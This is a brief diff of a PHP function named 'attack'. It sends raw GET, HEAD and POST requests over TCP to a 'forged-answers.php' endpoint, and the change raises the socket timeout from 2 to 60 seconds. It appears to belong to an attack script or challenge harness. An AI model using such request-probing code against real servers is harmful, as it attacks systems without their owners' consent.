@@ -49,7 +49,7 @@ function attack(string $address, string $seconds, string $loot): void
             foreach (['GET', 'HEAD', 'POST'] as $method) {
                 $report("tried: $method $number");
                 $client = stream_socket_client("tcp://$address");
-                stream_set_timeout($client, 2);
+                stream_set_timeout($client, 60);
                 $length = $method === 'POST' ? "Content-Length: 0\r\n" : '';
                 fwrite($client, "$method /forged-answers.php?n=$number HTTP/1.1\r\nHost: a.example\r\n$length\r\n");
                 $first = answer($client, $method);
